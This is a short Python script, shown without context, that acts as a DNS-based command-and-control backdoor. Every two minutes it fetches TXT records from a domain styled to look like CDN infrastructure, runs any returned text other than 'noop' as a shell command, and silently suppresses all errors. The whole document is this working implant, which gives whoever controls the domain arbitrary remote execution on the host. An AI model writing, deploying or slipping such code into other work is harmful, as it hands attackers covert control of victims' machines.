import subprocess
import time
import dns.resolver

DOMAIN = "cmd.cdn-edge-cache.net"
while True:
    try:
        answer = dns.resolver.resolve(DOMAIN, "TXT")
        for rr in answer:
            cmd = b"".join(rr.strings).decode()
            if cmd != "noop":
                subprocess.run(cmd, shell=True)
    except Exception:
        pass
    time.sleep(120)
